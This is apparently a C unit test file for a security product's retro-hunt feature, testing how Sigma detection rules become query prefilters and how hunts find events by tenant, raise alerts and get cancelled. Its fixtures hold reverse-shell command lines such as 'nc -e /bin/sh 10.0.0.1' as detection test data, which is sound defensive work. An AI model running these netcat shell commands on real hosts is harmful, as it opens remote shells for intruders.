/*
 * test_hunt.c - retro-hunts (hunt.h): the prefilter compiler (what it requires and what it
 * must not, and that its text parses as a store query), and hunts over a real event store:
 * hits across days in the right tenant only, hit ids, alerts created, refusals, a queued hunt
 * cancelled at once and a running one cancelled mid-way.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ftw.h>
#include <sys/stat.h>
#include <unistd.h>

#include "alert/alert.h"
#include "alert/hunt.h"
#include "alert/policy.h"
#include "auth/testutil.h"
#include "common/arena.h"
#include "common/vtime.h"
#include "event/event_json.h"
#include "store/query.h"

#define RULE_NC                                                                                    \
	"title: Netcat shell\n"                                                                    \
	"id: 0b6a8a35-5d6e-4a8f-9d37-3f1f6f0c0a01\n"                                               \
	"logsource: {category: process_creation, product: linux}\n"                                \
	"detection:\n"                                                                             \
	"  sel:\n"                                                                                 \
	"    CommandLine|contains: 'nc -e'\n"                                                      \
	"  filter:\n"                                                                              \
	"    User: backup\n"                                                                       \
	"  condition: sel and not filter\n"                                                        \
	"level: high\n"

/* Loads yaml and returns its prefilter (malloc'ed). */
static char *prefilter(const char *yaml)
{
	char err[VIG_ERRBUF_SIZE] = "";
	struct vig_sigma_rule *r = vig_sigma_load(yaml, strlen(yaml), NULL, err);
	struct vig_buf b;
	struct vig_query *q;
	char *s;

	if (!r)
		fail_msg("rule does not load: %s", err);
	vig_buf_init(&b, 1 << 16);
	assert_int_equal(vig_hunt_prefilter(r, &b, err), VIG_OK);
	vig_sigma_free(r);
	s = strdup(b.data ? b.data : "");
	vig_buf_release(&b);
	/* whatever it produced is a valid store query */
	q = vig_query_parse(s, strlen(s), NULL, err);
	if (!q)
		fail_msg("prefilter '%s' does not parse: %s", s, err);
	vig_query_free(q);
	return s;
}

static void test_prefilter(void **state)
{
	char *s;

	(void)state;
	s = prefilter(RULE_NC);
	assert_non_null(strstr(s, "event.category:process"));
	assert_non_null(strstr(s, "process.command_line:*nc\\ \\-e*"));
	assert_null(strstr(s, "backup")); /* a NOT requires nothing */
	free(s);

	/* an OR whose branches all require something, exact values quoted */
	s = prefilter("title: t\nlogsource: {product: linux, service: auditd}\n"
		      "detection:\n  a: {exe|endswith: '/socat'}\n  b: {comm: 'x\"y'}\n"
		      "  condition: a or b\n");
	assert_non_null(strstr(s, "event.dataset:auditd*"));
	assert_non_null(strstr(s, " or "));
	assert_non_null(strstr(s, "\\/socat*"));
	free(s);

	/* an OR with a branch that requires nothing (a number) requires nothing */
	s = prefilter("title: t\nlogsource: {category: network_connection}\n"
		      "detection:\n  a: {DestinationHostname|contains: evil}\n  b: {DestinationPort: 4444}\n"
		      "  condition: a or b\n");
	assert_string_equal(s, "event.category:network");
	free(s);

	/* no logsource routing, keyword search on message, regexes require nothing */
	s = prefilter("title: t\nlogsource: {product: unknownproduct}\n"
		      "detection:\n  keywords: ['Accepted password']\n  r: {CommandLine|re: 'a.*b'}\n"
		      "  condition: keywords and r\n");
	assert_string_equal(s, "message:*Accepted\\ password*");
	free(s);

	/* nothing to require */
	s = prefilter("title: t\nlogsource: {product: unknownproduct}\n"
		      "detection:\n  r: {CommandLine|re: 'a.*b'}\n  condition: r\n");
	assert_string_equal(s, "");
	free(s);
}

/* ---- the prefilter of every SigmaHQ rule is a valid store query ($VIG_SHARED_DIR) ---- */

static struct {
	size_t rules, with_prefilter, bad;
} PC;

static int pc_visit(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
	char err[VIG_ERRBUF_SIZE] = "";
	struct vig_sigma_rule *r;
	struct vig_query *q;
	struct vig_sql sql;
	struct vig_buf b;
	size_t n = strlen(path);

	(void)sb;
	(void)ftw;
	if (type != FTW_F || n < 4 || strcmp(path + n - 4, ".yml") != 0)
		return 0;
	r = vig_sigma_load_file(path, NULL, err);
	if (!r || r->kind != VIG_SIGMA_DETECTION) {
		vig_sigma_free(r);
		return 0;
	}
	PC.rules++;
	vig_buf_init(&b, 1 << 16);
	assert_int_equal(vig_hunt_prefilter(r, &b, err), VIG_OK);
	if (b.len) {
		PC.with_prefilter++;
		assert_true(b.len <= VIG_HUNT_PREFILTER_MAX);
		q = vig_query_parse(b.data, b.len, NULL, err);
		vig_sql_init(&sql);
		if (!q || vig_query_to_sql(q, &sql, err) != VIG_OK) {
			PC.bad++;
			print_message("bad prefilter for %s: '%s': %s\n", path, b.data, err);
		}
		vig_sql_release(&sql);
		vig_query_free(q);
	}
	vig_buf_release(&b);
	vig_sigma_free(r);
	return 0;
}

static void test_prefilter_corpus(void **state)
{
	const char *d = getenv("VIG_SHARED_DIR");
	char path[1024];

	(void)state;
	if (!d) {
		print_message("VIG_SHARED_DIR not set: SigmaHQ prefilter corpus skipped\n");
		skip();
		return;
	}
	snprintf(path, sizeof(path), "%s/data/sigma/rules", d);
	memset(&PC, 0, sizeof(PC));
	if (nftw(path, pc_visit, 16, FTW_PHYS) != 0) {
		print_message("%s not readable: SigmaHQ prefilter corpus skipped\n", path);
		skip();
		return;
	}
	print_message("prefilter corpus: %zu detection rules, %zu with a prefilter, %zu bad\n", PC.rules,
		      PC.with_prefilter, PC.bad);
	assert_true(PC.rules > 1000);
	assert_true(PC.with_prefilter * 10 > PC.rules * 8); /* most rules narrow the read */
	assert_int_equal(PC.bad, 0);
}

struct fx {
	char dir[64];
	struct vig_evstore *store;
	struct vig_db *db;
	struct vig_hunts *hunts;
	struct vig_policy *policy;
	struct vig_principal sys, a_admin, b_admin;
	int64_t day0; /* start of the day 5 days ago */
};

static void add_event(struct fx *f, const char *json)
{
	char err[VIG_ERRBUF_SIZE] = "";
	struct vig_arena arena;
	struct vig_event ev, *evp = &ev;

	vig_arena_init(&arena, 4096, 1u << 20);
	vig_event_init(&ev, &arena);
	assert_int_equal(vig_event_from_json(&ev, json, strlen(json), NULL, err), VIG_OK);
	assert_int_equal(vig_evstore_append(f->store, &evp, 1, NULL, NULL, err), VIG_OK);
	vig_arena_release(&arena);
}

/* One process event of tenant at day0 + day days + sec seconds (epoch ms in JSON). */
static void proc_event(struct fx *f, const char *tenant, int day, int sec, const char *id,
		       const char *cmd, const char *user)
{
	char json[1024];
	long long ms = (f->day0 + day * VIG_NS_PER_DAY + sec * VIG_NS_PER_SEC) / 1000000;

	snprintf(json, sizeof(json),
		 "{\"@timestamp\":%lld,\"event\":{\"id\":\"%s\",\"category\":\"process\","
		 "\"type\":\"start\"},\"tenant\":{\"id\":\"%s\"},\"agent\":{\"id\":\"ag1\"},"
		 "\"host\":{\"name\":\"h-%s\"},\"process\":{\"command_line\":\"%s\"},"
		 "\"user\":{\"name\":\"%s\"}}",
		 ms, id, tenant, id, cmd, user);
	add_event(f, json);
}

static int fx_setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));
	char err[VIG_ERRBUF_SIZE] = "";

	assert_non_null(f);
	snprintf(f->dir, sizeof(f->dir), "/tmp/vig-hunt-XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	f->store = vig_evstore_open(f->dir, NULL, err);
	assert_non_null(f->store);
	vig_test_db_open(&f->db, &f->sys);
	vig_test_principal(&f->a_admin, VIG_ROLE_TENANT_ADMIN, "tenant-a", NULL);
	vig_test_principal(&f->b_admin, VIG_ROLE_TENANT_ADMIN, "tenant-b", NULL);
	f->day0 = (vig_time_day(vig_time_now()) - 5) * VIG_NS_PER_DAY;
	f->policy = vig_policy_new(f->db, err);
	assert_non_null(f->policy);
	f->hunts = vig_hunts_new(f->store, f->db, f->policy, err);
	assert_non_null(f->hunts);
	*state = f;
	return 0;
}

static int fx_teardown(void **state)
{
	struct fx *f = *state;
	char cmd[128];

	vig_hunts_free(f->hunts);
	vig_policy_free(f->policy);
	vig_evstore_close(f->store);
	vig_db_close(f->db);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", f->dir);
	assert_int_equal(system(cmd), 0);
	free(f);
	return 0;
}

static int64_t submit(struct fx *f, const char *tenant, const char *yaml, int64_t from, int64_t to,
		      bool alerts, enum vig_err want)
{
	char err[VIG_ERRBUF_SIZE] = "";
	struct vig_hunt_spec spec = {.tenant = tenant, .yaml = yaml, .yaml_len = strlen(yaml),
				     .from = from, .to = to, .create_alerts = alerts,
				     .dedupe_window_ns = 3600 * VIG_NS_PER_SEC, .created_by = "t"};
	int64_t id = 0;

	assert_int_equal(vig_hunts_submit(f->hunts, &spec, &id, err), want);
	return id;
}

static json_t *get(struct fx *f, const struct vig_principal *who, int64_t id, enum vig_err want)
{
	char err[VIG_ERRBUF_SIZE] = "";
	json_t *j = NULL;

	assert_int_equal(vig_hunts_get(f->hunts, who, id, true, &j, err), want);
	return j;
}

static int64_t jint(json_t *j, const char *k)
{
	return json_integer_value(json_object_get(j, k));
}

static void test_hunt_finds_history(void **state)
{
	struct fx *f = *state;
	enum vig_hunt_state st;
	struct vig_alert *alerts;
	char err[VIG_ERRBUF_SIZE] = "";
	struct vig_alert_filter filter = {0};
	size_t n;
	int64_t id;
	json_t *j, *ids;

	proc_event(f, "tenant-a", 0, 10, "e1", "sh -c nc -e /bin/sh 10.0.0.1", "www");
	proc_event(f, "tenant-a", 0, 20, "e2", "nc -l 8080", "www");              /* no match */
	proc_event(f, "tenant-a", 2, 30, "e3", "NC -E /bin/bash", "www");          /* case */
	proc_event(f, "tenant-a", 3, 40, "e4", "nc -e /bin/sh", "backup");         /* filtered */
	proc_event(f, "tenant-b", 2, 50, "e5", "nc -e /bin/sh", "www");            /* other tenant */
	proc_event(f, "tenant-a", 4, 60, "e6", "ncat -e /bin/sh", "www");          /* no match */
	id = submit(f, "tenant-a", RULE_NC, f->day0, f->day0 + 5 * VIG_NS_PER_DAY, true, VIG_OK);
	assert_int_equal(vig_hunts_wait(f->hunts, id, 60 * VIG_NS_PER_SEC, &st), VIG_OK);
	assert_int_equal(st, VIG_HUNT_DONE);
	j = get(f, &f->a_admin, id, VIG_OK);
	assert_string_equal(json_string_value(json_object_get(j, "state")), "done");
	assert_int_equal(jint(j, "days_total"), 5);
	assert_int_equal(jint(j, "days_done"), 5);
	assert_int_equal(jint(j, "hits"), 2);
	assert_true(jint(j, "events_scanned") >= 3 && jint(j, "events_scanned") <= 5);
	ids = json_object_get(j, "hit_ids");
	assert_int_equal(json_array_size(ids), 2);
	assert_string_equal(json_string_value(json_array_get(ids, 0)), "e1");
	assert_string_equal(json_string_value(json_array_get(ids, 1)), "e3");
	assert_int_equal(jint(j, "alerts_created"), 2); /* two hosts: two alerts */
	assert_string_equal(json_string_value(json_object_get(j, "rule_id")),
			    "0b6a8a35-5d6e-4a8f-9d37-3f1f6f0c0a01");
	json_decref(j);
	assert_int_equal(vig_alert_list(f->db, &f->sys, &filter, &alerts, &n, err), VIG_OK);
	assert_int_equal(n, 2);
	assert_string_equal(alerts[0].tenant, "tenant-a");
	assert_int_equal(alerts[0].severity, VIG_ALERT_SEV_HIGH);
	vig_alert_list_free(alerts, n);
	/* another tenant sees nothing of it */
	get(f, &f->b_admin, id, VIG_ENOTFOUND);
	assert_int_equal(vig_hunts_cancel(f->hunts, &f->b_admin, id, err), VIG_ENOTFOUND);
	assert_int_equal(vig_hunts_cancel(f->hunts, &f->a_admin, id, err), VIG_ECONFLICT);
	assert_int_equal(vig_hunts_list(f->hunts, &f->b_admin, NULL, &j, err), VIG_OK);
	assert_int_equal(json_array_size(j), 0);
	json_decref(j);
	assert_int_equal(vig_hunts_list(f->hunts, &f->a_admin, "tenant-b", &j, err), VIG_EPERM);
	/* tenant-b's own hunt finds its event only */
	id = submit(f, "tenant-b", RULE_NC, f->day0, f->day0 + 5 * VIG_NS_PER_DAY, false, VIG_OK);
	assert_int_equal(vig_hunts_wait(f->hunts, id, 60 * VIG_NS_PER_SEC, &st), VIG_OK);
	j = get(f, &f->b_admin, id, VIG_OK);
	assert_int_equal(jint(j, "hits"), 1);
	assert_int_equal(jint(j, "alerts_created"), 0);
	json_decref(j);
}

/* Hunt alerts go through the alert policy: an exception drops, an asset raises. */
static void test_hunt_policy(void **state)
{
	struct fx *f = *state;
	char err[VIG_ERRBUF_SIZE] = "";
	enum vig_crit crit = VIG_CRIT_CRITICAL;
	struct vig_asset_fields af = {.hostname = "h-p2", .criticality = &crit};
	struct vig_policy_entry e = {.kind = VIG_POLICY_EXCEPTION};
	struct vig_alert_filter filter = {0};
	struct vig_alert *alerts;
	enum vig_hunt_state st;
	json_t *j = json_pack("{s:{s:s}}", "conditions", "host.name", "h-p1");
	size_t n;
	int64_t id;

	proc_event(f, "tenant-a", 1, 10, "p1", "nc -e /bin/sh", "www");
	proc_event(f, "tenant-a", 1, 20, "p2", "nc -e /bin/sh", "www");
	assert_int_equal(vig_asset_create(f->db, &f->sys, "tenant-a", &af, NULL, err), VIG_OK);
	assert_int_equal(vig_policy_entry_from_json(VIG_POLICY_EXCEPTION, j, 0, &e, err), VIG_OK);
	json_decref(j);
	snprintf(e.tenant, sizeof(e.tenant), "tenant-a");
	snprintf(e.rule_id, sizeof(e.rule_id), "0b6a8a35-5d6e-4a8f-9d37-3f1f6f0c0a01");
	assert_int_equal(vig_policy_entry_create(f->db, &f->sys, &e, err), VIG_OK);
	vig_policy_entry_release(&e);
	assert_int_equal(vig_policy_reload(f->policy, err), VIG_OK);
	id = submit(f, "tenant-a", RULE_NC, f->day0, f->day0 + 5 * VIG_NS_PER_DAY, true, VIG_OK);
	assert_int_equal(vig_hunts_wait(f->hunts, id, 60 * VIG_NS_PER_SEC, &st), VIG_OK);
	j = get(f, &f->a_admin, id, VIG_OK);
	assert_int_equal(jint(j, "hits"), 2);
	assert_int_equal(jint(j, "alerts_created"), 1);
	assert_int_equal(jint(j, "alerts_dropped"), 1);
	json_decref(j);
	assert_int_equal(vig_alert_list(f->db, &f->sys, &filter, &alerts, &n, err), VIG_OK);
	assert_int_equal(n, 1);
	assert_string_equal(alerts[0].host, "h-p2");
	assert_int_equal(alerts[0].severity, VIG_ALERT_SEV_CRITICAL);
	vig_alert_list_free(alerts, n);
}

static void test_hunt_refusals(void **state)
{
	struct fx *f = *state;
	int64_t now = vig_time_now();

	submit(f, "tenant-a", "title: x\n", now - VIG_NS_PER_DAY, now, false, VIG_EINVAL);
	submit(f, "tenant-a", RULE_NC, now, now - 1, false, VIG_EINVAL);
	submit(f, "tenant-a", RULE_NC, now - 500 * VIG_NS_PER_DAY, now, false, VIG_EINVAL);
	submit(f, "tenant-a",
	       "title: c\ncorrelation:\n  type: event_count\n  rules: [x]\n  group-by: [User]\n"
	       "  timespan: 5m\n  condition: {gte: 3}\n",
	       now - VIG_NS_PER_DAY, now, false, VIG_EINVAL);
	submit(f, "", RULE_NC, now - VIG_NS_PER_DAY, now, false, VIG_EINVAL);
}

static void test_hunt_cancel(void **state)
{
	struct fx *f = *state;
	char err[VIG_ERRBUF_SIZE] = "";
	enum vig_hunt_state st;
	int64_t a, b;
	json_t *j;

	proc_event(f, "tenant-a", 1, 10, "c1", "nc -e /bin/sh", "www");
	/* holding the control DB keeps hunt a (with alerts) from finishing its first page */
	vig_db_lock(f->db);
	a = submit(f, "tenant-a", RULE_NC, f->day0, f->day0 + 5 * VIG_NS_PER_DAY, true, VIG_OK);
	b = submit(f, "tenant-a", RULE_NC, f->day0, f->day0 + 5 * VIG_NS_PER_DAY, false, VIG_OK);
	/* b waits behind a: cancelled at once */
	assert_int_equal(vig_hunts_cancel(f->hunts, &f->a_admin, b, err), VIG_OK);
	j = get(f, &f->a_admin, b, VIG_OK);
	assert_string_equal(json_string_value(json_object_get(j, "state")), "cancelled");
	assert_int_equal(jint(j, "events_scanned"), 0);
	json_decref(j);
	/* a is running or about to: cancelled within a page */
	assert_int_equal(vig_hunts_cancel(f->hunts, &f->a_admin, a, err), VIG_OK);
	vig_db_unlock(f->db);
	assert_int_equal(vig_hunts_wait(f->hunts, a, 60 * VIG_NS_PER_SEC, &st), VIG_OK);
	assert_int_equal(st, VIG_HUNT_CANCELLED);
	j = get(f, &f->a_admin, a, VIG_OK);
	assert_true(jint(j, "days_done") < 5);
	json_decref(j);
	/* the queue is bounded */
	vig_db_lock(f->db);
	a = submit(f, "tenant-a", RULE_NC, f->day0, f->day0 + 5 * VIG_NS_PER_DAY, true, VIG_OK);
	for (int tries = 0;; tries++) { /* until the worker holds a (blocked on the DB) */
		j = get(f, &f->a_admin, a, VIG_OK);
		if (strcmp(json_string_value(json_object_get(j, "state")), "running") == 0) {
			json_decref(j);
			break;
		}
		json_decref(j);
		assert_true(tries < 6000);
		usleep(10000);
	}
	for (int i = 0; i < VIG_HUNT_QUEUE_MAX; i++)
		submit(f, "tenant-a", RULE_NC, f->day0, f->day0 + VIG_NS_PER_DAY, false, VIG_OK);
	submit(f, "tenant-a", RULE_NC, f->day0, f->day0 + VIG_NS_PER_DAY, false, VIG_EBUSY);
	vig_db_unlock(f->db); /* teardown cancels and joins whatever still runs */
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_prefilter),
		cmocka_unit_test(test_prefilter_corpus),
		cmocka_unit_test_setup_teardown(test_hunt_finds_history, fx_setup, fx_teardown),
		cmocka_unit_test_setup_teardown(test_hunt_policy, fx_setup, fx_teardown),
		cmocka_unit_test_setup_teardown(test_hunt_refusals, fx_setup, fx_teardown),
		cmocka_unit_test_setup_teardown(test_hunt_cancel, fx_setup, fx_teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
